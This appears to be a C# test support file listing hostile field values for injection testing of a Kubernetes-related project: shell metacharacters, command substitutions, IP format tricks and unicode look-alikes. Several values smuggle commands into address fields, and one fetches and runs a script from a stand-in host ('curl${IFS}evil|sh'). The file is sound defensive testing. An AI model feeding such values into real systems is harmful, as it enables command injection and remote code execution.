namespace KubeHa.Core.Tests.Support;

/// <summary>
/// Values an attacker (a hostile host's facts, a careless operator) can put into a field: shell metacharacters,
/// substitutions, quotes, newlines, IPv6 scope ids, octal and hex addresses, unicode look-alikes. Each carries
/// <see cref="Marker"/> where it can, so a test can find where it landed.
/// </summary>
public static class HostileValues
{
    public const string Marker = "KHPWN";

    public static readonly string[] ShellMetacharacters =
    [
        $"w1;touch /tmp/{Marker};#",
        $"$(touch /tmp/{Marker})",
        $"`touch /tmp/{Marker}`",
        $"a'b'{Marker}",
        $"a\"b\"{Marker}",
        $"a\\b{Marker}\\",
        $"line1\n{Marker} line2",
        $"cr\r{Marker}",
        $" {Marker} ",
        $"*{Marker}*",
        $"~root/{Marker}",
        $"-rf{Marker}",
        $"${{IFS}}{Marker}",
        $"$HOME{Marker}",
        $"a|b&c>d<e({Marker})",
        $"#{Marker}",
        $"'",
        $"\"",
        string.Empty,
        $"узел-{Marker}",
        $"ноde1{Marker}",
        $"fe80::1%$(id){Marker}",
        $"::ffff:10.1.1.5%;curl${{IFS}}evil|sh;#{Marker}",
        $"tab\t{Marker}",
        $"{{{Marker}}}",
        $"!{Marker}",
    ];

    /// <summary>Addresses that look like IPs to one parser and not another, or carry a payload after a scope id.</summary>
    public static readonly string[] Addresses =
    [
        "fe80::1%$(id)",
        "fe80::1%eth0",
        "::ffff:10.1.1.5%;curl${IFS}evil|sh;#",
        "010.0.0.1",
        "10.0.0.01",
        "0xa.0.0.1",
        "0xa.0xf4.0.0",
        "10.1",
        "167772161",
        "10.0.0.1 ",
        "10.0.0.1;id",
        "10.0.0.1\nid",
        "[fe80::1]",
        "ｎode1.example.com",
        "node1.example.com.",
        "-node1",
        "node_1",
    ];
}
